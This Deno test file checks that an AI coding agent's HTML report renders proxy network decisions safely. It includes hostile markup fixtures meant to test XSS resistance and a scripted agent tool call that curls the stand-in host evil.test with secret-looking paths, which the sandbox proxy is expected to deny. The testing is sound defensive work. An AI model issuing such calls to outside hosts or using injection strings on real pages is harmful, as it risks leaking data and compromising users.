/**
 * The report's network section in headless Chromium (issue 53, deliver 4): a run whose proxy
 * refused a host named like markup, with a reason full of markup, quotes, control bytes and an RTL
 * override. The section is visible, refused destinations first, the step names its own, and each
 * hostile string is shown as text: nothing ran, loaded or was added to the page. And a real run
 * (mock model, real bubblewrap and curl through the proxy): its decisions in the section and its
 * step, with no URL path anywhere outside the call's own command.
 */
import * as assert from "node:assert/strict";
import http from "node:http";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { buildReport } from "../../../src/report/report.ts";
import { Chromium } from "../../helpers/chromium.ts";
import { runDeft, runMocked, trustedHomeWith } from "../../helpers/deft.ts";
import { chatText, chatToolCalls, MockLLM } from "../../helpers/mock_llm.ts";
import { HOSTILE, ordinaryTrajectory } from "../../helpers/report_fixtures.ts";
import { tempDir } from "../../helpers/temp.ts";

// deno-lint-ignore no-explicit-any
type Json = any;

Deno.test("report in Chromium: the network section is visible, denied first, and hostile hosts and reasons are text", async () => {
  await using dir = await tempDir();
  const host = `${HOSTILE.script}${HOSTILE.handler}"'\x1b[31m\u202eexe.gro`;
  const reason = `${HOSTILE.breakout}${HOSTILE.link}\x07\u2066`;
  const t: Json = ordinaryTrajectory();
  // The fixture's steps end 1.5 s apart from 10:00:00; these fall in step 2.
  t.network = [
    { time: "2026-12-01T10:00:01.600Z", host: "pypi.org", port: 443, allowed: true, reason: "ok" },
    { time: "2026-12-01T10:00:02.000Z", host, port: 443, allowed: false, reason },
    { time: "2026-12-01T10:00:02.500Z", host, port: 443, allowed: false, reason },
  ];
  const path = join(dir.path, "trajectory_20261201_100000_abcdef.json");
  await Deno.writeTextFile(path, JSON.stringify(t));
  const file = join(dir.path, "run.html");
  await Deno.writeTextFile(file, await buildReport([path]));
  await using browser = await Chromium.launch(join(dir.path, "profile"));
  for (const scripts of [true, false]) {
    const page = await browser.open(pathToFileURL(file).href, { scripts });
    assert.deepEqual(page.log.errors, []);
    assert.deepEqual(page.log.requests, []);
    const seen = await browser.evaluate<{
      visible: boolean;
      rows: { cls: string; cells: string[]; visible: boolean }[];
      step: string;
      stepVisible: boolean;
      pwned: boolean;
    }>(
      page.session,
      `(() => {
        const section = document.querySelector("section.network");
        const rows = [...(section?.querySelectorAll("tbody tr") ?? [])].map((tr) => ({
          cls: tr.className,
          cells: [...tr.cells].map((c) => c.innerText),
          visible: tr.checkVisibility(),
        }));
        const step = document.querySelector(".step-network");
        return {
          visible: section?.checkVisibility() ?? false,
          rows,
          step: step?.innerText ?? "",
          stepVisible: step?.checkVisibility() ?? false,
          pwned: /PWNED/.test(document.title) || !!document.documentElement.dataset.pwned ||
            !!document.querySelector("pwned-img, pwned-svg, #pwned-link, iframe, img"),
        };
      })()`,
    );
    assert.equal(seen.visible, true, "the network section is visible");
    assert.equal(seen.pwned, false, "markup from the trajectory took effect");
    assert.deepEqual(seen.rows.map((r) => [r.cls, r.visible]), [
      ["net-denied", true],
      ["net-allowed", true],
    ]);
    const [mark, where, why, count] = seen.rows[0].cells;
    assert.equal(mark, "denied");
    // The host and reason read as they were written, control characters spelled out.
    assert.equal(
      where,
      `${HOSTILE.script}${HOSTILE.handler}"'\\e[31m\\u{202e}exe.gro:443`,
    );
    assert.equal(why, `${HOSTILE.breakout}${HOSTILE.link}\\x07\\u{2066}`);
    assert.equal(count, "2");
    assert.equal(seen.stepVisible, true, "the step's network line is visible");
    assert.ok(seen.step.startsWith("network: denied <script>"), seen.step);
    assert.ok(seen.step.includes("×2, allowed pypi.org:443"), seen.step);
  }
});

Deno.test("report in Chromium: a real run's proxy decisions show under the run and its step, never a path", async () => {
  const srv = http.createServer((_req, res) => res.end("reached\n"));
  await new Promise<void>((r) => srv.listen(0, "127.0.0.1", () => r()));
  const port = (srv.address() as { port: number }).port;
  const home = await trustedHomeWith(
    "deft-report-net-",
    () => `network:\n  allow: ["127.0.0.1:${port}"]\n`,
  );
  const workspace = `${home}/ws`;
  await Deno.mkdir(workspace);
  const mock = MockLLM.start([
    chatToolCalls([["bash", {
      command:
        `curl -sS http://127.0.0.1:${port}/secret-path-a; curl -sS http://evil.test/secret-path-b; ` +
        `curl -sS http://evil.test/secret-path-c`,
    }]]),
    chatToolCalls([["task_done", {}]], "done"),
    chatText("done"),
  ]);
  const trajectory = `${home}/t.json`;
  try {
    const run = await runMocked(mock, "fetch", workspace, {
      cwd: home,
      env: { HOME: home, XDG_CONFIG_HOME: `${home}/.config` },
      extra: ["--sandbox", "workspace-write", "--approval", "never", "-t", trajectory],
    });
    assert.equal(run.code, 0, run.stderr);
  } finally {
    await mock.close();
    await new Promise<void>((r) => srv.close(() => r()));
  }
  const file = `${home}/run.html`;
  const made = await runDeft(["report", trajectory, "-o", file], { env: { HOME: home } });
  assert.equal(made.code, 0, made.stderr);
  const html = await Deno.readTextFile(file);
  assert.doesNotMatch(
    html.replace(/<details class="call[\s\S]*?<\/details>/g, ""),
    /secret-path/,
    "the network section holds no path",
  );
  await using browser = await Chromium.launch(`${home}/profile`);
  const page = await browser.open(pathToFileURL(file).href, { scripts: true });
  assert.deepEqual(page.log.errors, []);
  const seen = await browser.evaluate<{ rows: string[]; steps: string[] }>(
    page.session,
    `({
      rows: [...document.querySelectorAll("section.network tbody tr")]
        .filter((tr) => tr.checkVisibility()).map((tr) => tr.innerText.replace(/\\s+/g, " ").trim()),
      steps: [...document.querySelectorAll(".step")].map((s) =>
        s.querySelector(".step-network")?.innerText ?? ""),
    })`,
  );
  assert.equal(seen.rows.length, 2, JSON.stringify(seen));
  assert.match(seen.rows[0], /^denied evil\.test:80 not in allow list 2 \S+ step 1$/);
  assert.match(seen.rows[1], new RegExp(`^allowed 127\\.0\\.0\\.1:${port} allowed 1 \\S+ step 1$`));
  assert.deepEqual(seen.steps, [
    `network: denied evil.test:80 (not in allow list) ×2, allowed 127.0.0.1:${port}`,
    "",
  ]);
});
